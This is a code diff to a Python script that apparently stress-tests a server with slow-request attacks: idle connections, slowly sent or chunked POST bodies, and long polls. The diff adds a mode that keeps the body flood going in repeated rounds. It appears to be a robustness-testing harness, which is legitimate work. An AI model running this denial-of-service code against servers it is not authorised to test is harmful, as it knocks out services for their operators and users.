@@ -121,8 +121,23 @@ def attack_idle(target: str, count: int, hold: float) -> dict[str, Any]:
     return {"attack": "idle", "opened": len(socks), "connect_failed": failed, "answers": tally([l for l in lines if l]), "still_open": still_open}
 
 
-def attack_bodies(target: str, count: int, size: int, hold: float, chunked: bool = False) -> dict[str, Any]:
-    """``count`` connections each POST a ``size``-byte body (declared, or chunked) and keep sending it."""
+def attack_bodies(target: str, count: int, size: int, hold: float, chunked: bool = False, repeat: bool = False) -> dict[str, Any]:
+    """``count`` connections each POST a ``size``-byte body (declared, or chunked) and keep sending it;
+    with ``repeat``, as each round is answered a new one starts, until ``hold`` seconds have passed."""
+    deadline = time.monotonic() + hold
+    lines: list[str] = []
+    most_sent = rounds = 0
+    while True:
+        answered, sent = _bodies_round(target, count, size, deadline, chunked)
+        lines += answered
+        most_sent = max(most_sent, sent)
+        rounds += 1
+        if not repeat or time.monotonic() >= deadline:
+            break
+    return {"attack": "bodies", "connections": count, "rounds": rounds, "answers": tally(lines), "most_sent": most_sent}
+
+
+def _bodies_round(target: str, count: int, size: int, deadline: float, chunked: bool) -> tuple[list[str], int]:
     socks = []
     piece = b"x" * 65536
     for _ in range(count):
@@ -135,7 +150,6 @@ def attack_bodies(target: str, count: int, size: int, hold: float, chunked: bool
         socks.append(sock)
     sent = [0] * count
     lines = [""] * count
-    deadline = time.monotonic() + hold
     while time.monotonic() < deadline and any(not line for line in lines):
         for i, sock in enumerate(socks):
             if lines[i] or sent[i] >= size:
@@ -154,7 +168,7 @@ def attack_bodies(target: str, count: int, size: int, hold: float, chunked: bool
     lines = [line or status_line(s, 0.5) for line, s in zip(lines, socks)]
     for s in socks:
         s.close()
-    return {"attack": "bodies", "connections": count, "answers": tally(lines), "most_sent": max(sent)}
+    return lines, max(sent)
 
 
 def long_polls(target: str, count: int, hold: float) -> dict[str, Any]:
@@ -227,11 +241,12 @@ def main(argv: list[str]) -> int:
     parser.add_argument("--lease", default="")
     parser.add_argument("--token", default=None)
     parser.add_argument("--prefix", default="")
+    parser.add_argument("--repeat", action="store_true", help="bodies, chunked: start a new round as each is answered, for --hold seconds")
     args = parser.parse_args(argv)
     if args.what == "idle":
         result = attack_idle(args.target, args.count, args.hold)
     elif args.what in ("bodies", "chunked"):
-        result = attack_bodies(args.target, args.count, args.size, args.hold, chunked=args.what == "chunked")
+        result = attack_bodies(args.target, args.count, args.size, args.hold, chunked=args.what == "chunked", repeat=args.repeat)
     elif args.what == "longpolls":
         result = long_polls(args.target, args.count, args.hold)
     elif args.what == "reports":
